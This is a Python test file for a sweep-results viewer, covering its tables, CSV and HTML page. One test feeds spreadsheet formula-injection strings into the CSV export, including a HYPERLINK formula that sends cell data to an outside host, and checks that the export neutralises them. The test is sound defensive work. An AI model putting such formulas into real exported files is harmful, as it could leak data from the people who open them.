"""What a sweep shows of its trials: table, line, CSV and page, for values of every kind."""

import csv
import io
import re
from html.parser import HTMLParser

import msgspec
import pytest
from msgspec.structs import replace
from rich.console import Console

from torchyard.api.names import TRIAL
from torchyard.api.resource import ObjectMeta, TrainingJob
from torchyard.api.status import NonFiniteMetric, Progress, State, TrainingJobStatus
from torchyard.cli.views.sweep_page import page_of
from torchyard.cli.views.sweep_table import line_of, table_of
from torchyard.client.trials import TrialsTable
from torchyard.sweeps.codec import read_sweep
from torchyard.sweeps.resource import TrialRecord, Unit
from torchyard.sweeps.results import best_so_far, csv_of, results_of
from torchyard.sweeps.space import short_names
from torchyard.sweeps.spec import FloatRange, Parameter

SWEEP = read_sweep(
    {
        "metadata": {"name": "tune"},
        "spec": {
            "objective": {"metric": "loss", "goal": "minimize"},
            "earlyStopping": {"name": "asha"},
            "parameters": [
                {"path": "trainer.params.lr", "float": {"min": 0.001, "max": 0.1, "log": True}},
                {"path": "trainer.params.kind", "choice": ["<a>", True]},
                {
                    "path": "trainer.params.depth",
                    "int": {"min": 1, "max": 4},
                    "conditions": [{"path": "trainer.params.kind", "values": [True]}],
                },
            ],
            "maxTrials": 9,
            "jobTemplate": {"spec": {"trainer": {"name": "x:Y"}}},
        },
    }
)
LR, KIND, DEPTH = (parameter.path for parameter in SWEEP.spec.parameters)


def job(number, state, metrics, parameters, thresholds=None):
    record = TrialRecord(number=number, parameters=parameters, units=[Unit(number=number, thresholds=thresholds or {})])
    metadata = ObjectMeta(name=f"tune-{number}", annotations={TRIAL: msgspec.json.encode(record).decode()})
    status = TrainingJobStatus(state=state, metrics=metrics, progress=Progress(percent=40.0))
    return TrainingJob(metadata=metadata, spec=SWEEP.spec.job_template.spec, status=status)


JOBS = {
    0: job(0, State.SUCCEEDED, {"loss": 2.0}, {LR: 0.01, KIND: "<a>"}),
    1: job(1, State.SUCCEEDED, {"loss": 1.5}, {LR: 0.1, KIND: True, DEPTH: 3}),
    2: job(2, State.SUSPENDED, {"loss": 1.0, "loss@10%": 9.0}, {LR: 0.001, KIND: "<a>"}, {"10": 8.0}),
    3: job(3, State.FAILED, {}, {LR: 0.05, KIND: "<a>"}),
    4: job(4, State.RUNNING, {"loss": 0.5}, {LR: 0.02, KIND: "<a>"}),
    5: job(5, State.SUSPENDED, {"loss": 0.7}, {LR: 0.03, KIND: "<a>"}),
}
RESULTS = results_of(SWEEP, JOBS)


def test_a_stopped_trial_has_the_value_of_its_rung_and_the_best_trial_is_complete():
    assert [(each.outcome, each.value) for each in RESULTS] == [
        ("complete", 2.0),
        ("complete", 1.5),
        ("stopped", 9.0),
        ("failed", None),
        ("running", 0.5),
        ("suspended", 0.7),
    ]
    assert RESULTS[2].progress == "10%", "that of its value, however far it got before it stopped"
    assert [each.number for each in RESULTS if each.best] == [1]
    assert best_so_far(SWEEP, RESULTS) == [2.0, 1.5]


def test_a_trial_whose_objective_is_not_finite_fails_and_is_shown_as_such():
    nan, negative = NonFiniteMetric(value="NaN", step=7), NonFiniteMetric(value="-Infinity", step=7)
    ends = {
        6: replace(JOBS[0].status, metrics={}, non_finite_metrics={"loss": negative}),
        7: replace(JOBS[2].status, metrics={"loss": 1.0}, non_finite_metrics={"loss@10%": nan}),
        8: replace(JOBS[4].status, metrics={}, non_finite_metrics={"loss": nan}),
    }
    jobs = JOBS | {
        number: replace(job(number, status.state, {}, {LR: 0.01, KIND: "<a>"}), status=status)
        for number, status in ends.items()
    }
    results = results_of(SWEEP, jobs)
    assert [(each.outcome, each.value, each.non_finite) for each in results[6:]] == [
        ("failed", None, "-Infinity"),
        ("stopped", None, "NaN"),
        ("running", None, "NaN"),
    ]
    assert results[6].why == "loss is -Infinity at its end (NotFinite)"
    assert [each.number for each in results if each.best] == [1]
    rows = [row.split(",") for row in csv_of(SWEEP, results).splitlines()]
    assert [row[rows[0].index("loss")] for row in rows[-3:]] == ["-Infinity", "NaN", "NaN"]
    console = Console(width=140, record=True, file=io.StringIO())
    console.print(table_of(SWEEP, jobs))
    assert "NaN" in console.export_text()
    page = page_of(SWEEP, results, {})
    assert "tune-7: NaN (stopped)" in page
    assert "3 trials whose value is not finite" in page
    assert "NaN" in str(TrialsTable(results))


def test_the_table_and_its_line_name_the_best_trial():
    console = Console(width=140, record=True, file=io.StringIO())
    console.print(table_of(SWEEP, JOBS))
    text = console.export_text()
    counts = "1 running, 1 suspended, 2 complete, 1 stopped, 1 failed"
    line = f"6 of 9 trials ({counts}); best: tune-1 with loss 1.500 (lr=0.1, kind=true"
    assert line_of(SWEEP, JOBS).startswith(line)
    assert line in text
    assert all(f"tune-{number}" in text for number in JOBS)


MANY = [
    *SWEEP.spec.parameters,
    *(Parameter(path=f"env[A_LONG_VARIABLE_{n}]", choice=["1", "lion" * 10]) for n in range(9)),
]
WIDE = replace(
    SWEEP, metadata=ObjectMeta(name="t" * 50), spec=replace(SWEEP.spec, parameters=MANY)
)  # fmt: skip


@pytest.mark.parametrize("width", [60, 80, 120])
def test_a_terminal_shows_the_columns_that_fit_and_names_the_others(width):
    values = {each.path: each.choice[-1] for each in MANY[3:]} | {LR: 0.0123456, KIND: "1"}
    named = replace(job(7, State.SUCCEEDED, {"loss": 2.0}, values).metadata, name=f"{WIDE.metadata.name}-7")
    jobs = {7: replace(job(7, State.SUCCEEDED, {"loss": 2.0}, values), metadata=named)}
    console = Console(width=width, record=True, file=io.StringIO())
    console.print(table_of(WIDE, jobs))
    text = console.export_text()
    assert max(map(len, text.splitlines())) <= width
    head, row = (line.split() for line in text.splitlines() if line.startswith(("TRIAL", "t" * 21 + "…-7")))
    assert head[:5] == ["TRIAL", "STATE", "PROGRESS", "loss", "lr"]
    assert row[:5] == ["t" * 21 + "…-7", "complete", "40%", "2", "0.01235"]
    left_out = text.partition("not shown")[2].replace("\n", " ")
    shown = [name for name in short_names(MANY).values() if name in head]
    assert all((name in shown) != (name in left_out) for name in short_names(MANY).values())
    assert len(shown) >= {60: 1, 80: 3, 120: 4}[width]
    assert "3 more" in text, "of eleven parameters, depth does not apply"


def test_a_grid_has_no_more_trials_than_points():
    points = [replace(SWEEP.spec.parameters[0], float_=None, choice=[0.1, 0.2])]
    spec = replace(SWEEP.spec, algorithm=replace(SWEEP.spec.algorithm, name="grid"), parameters=points)
    assert line_of(replace(SWEEP, spec=spec), {}) == "0 of 2 trials (none yet)"


def test_csv_has_a_line_for_each_trial():
    rows = list(csv.DictReader(io.StringIO(csv_of(SWEEP, RESULTS))))
    assert [row["loss"] for row in rows] == ["2.0", "1.5", "9.0", "", "0.5", "0.7"]
    assert [row["best"] for row in rows] == ["0", "1", "0", "0", "0", "0"]
    assert rows[0][DEPTH] == ""


def test_no_text_in_csv_is_a_formula():
    formulas = ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=A1", "\n=A1", '=HYPERLINK("https://x.y/"&A1)', "\uff1dA1"]
    jobs = {
        number: job(number, State.SUCCEEDED, {"loss": -1.0}, {KIND: value, LR: -2.5})
        for number, value in enumerate([*formulas, "x\r=A1"])
    }
    rows = list(csv.DictReader(io.StringIO(csv_of(SWEEP, results_of(SWEEP, jobs)))))
    assert [row[KIND] for row in rows] == [*(f"'{formula}" for formula in formulas), "x\n=A1"]
    assert {(row["loss"], row[LR]) for row in rows} == {("-1.0", "-2.5")}


def test_the_page_is_whole_and_loads_nothing():
    page = page_of(SWEEP, RESULTS, {LR: 0.75, KIND: 0.25})

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.open, self.all = [], []

        def handle_starttag(self, tag, attrs):
            self.all.append(tag)
            if tag not in {"meta", "link"}:
                self.open.append(tag)

        def handle_startendtag(self, tag, attrs):
            self.all.append(tag)

        def handle_endtag(self, tag):
            assert self.open.pop() == tag

    tags = Tags()
    tags.feed(page)
    assert tags.open == []
    assert not {"script", "link", "img", "a"} & set(tags.all)
    assert tags.all.count("circle") == 5
    assert "75 %" in page
    assert "&lt;a&gt;" in page
    assert "<a>" not in page
    assert page_of(SWEEP, [], {}).count("No trial") == 2


@pytest.mark.parametrize(
    ("low", "high", "log", "labels"),
    [
        (0.0001, 0.01, True, ["0.0001", "0.001", "0.01"]),
        (0.0, 1.0, False, ["0", "0.2", "0.4", "0.6", "0.8", "1"]),
        (-1.7e308, 1.7e308, False, ["-1.7e+308", "0", "1.7e+308"]),
        (5e-324, 1e-323, False, ["4.941e-324", "9.881e-324"]),
    ],
)
def test_an_axis_has_its_ends_and_round_numbers_as_labels(low, high, log, labels):
    parameter = Parameter(path=LR, float_=FloatRange(min=low, max=high, log=log))
    sweep = replace(SWEEP, spec=replace(SWEEP.spec, parameters=[parameter]))
    values = [low, high, low / 2 + high / 2]
    jobs = {n: job(n, State.SUCCEEDED, {"loss": 1.0}, {LR: value}) for n, value in enumerate(values)}
    chart = page_of(sweep, results_of(sweep, jobs), {}).partition("Parallel coordinates")[2].partition("</svg>")[0]
    found = re.findall(r'text-anchor="start">([^<]*)<', chart)
    assert set(labels) <= set(found)
    lines = [float(each.partition(",")[2]) for each in re.findall(r'points="(\S+) ', chart)]
    assert (max(lines), min(lines)) == (240.0, 24.0), "from the bottom to the top"


def test_the_page_shows_choices_and_parameters_that_a_trial_does_not_have():
    page = page_of(SWEEP, RESULTS, {})
    chart = page.partition("Parallel coordinates")[2].partition("</svg>")[0]
    found = re.findall(r'<text x="([0-9.]+)" y="([0-9.]+)" text-anchor="start">([^<]*)<', chart)
    assert [text for _, _, text in found][3:9] == ["&lt;a&gt;", "true", "1", "2", "3", "4"]
    none = next((x, y) for x, y, text in found if text == "none")
    (first,) = (line for line in re.findall(r'points="([^"]*)"', chart) if f"{float(none[1]) - 4:.1f}" in line)
    assert first.split()[2] == f"{float(none[0]) - 4:.1f},{float(none[1]) - 4:.1f}", "trial 0 has no depth"
    assert "<b>Best: tune-1, loss 1.500</b> (lr=0.1, kind=true, depth=3)" in page
    assert "stopped at 10 %" in page


def test_two_parameters_with_the_same_last_part_have_whole_names():
    paths = ["trainer.params.lr", "env[LR]", "rl.lr"]
    names = short_names([Parameter(path=path, choice=[1]) for path in paths])
    assert list(names.values()) == ["trainer.params.lr", "env[LR]", "rl.lr"]
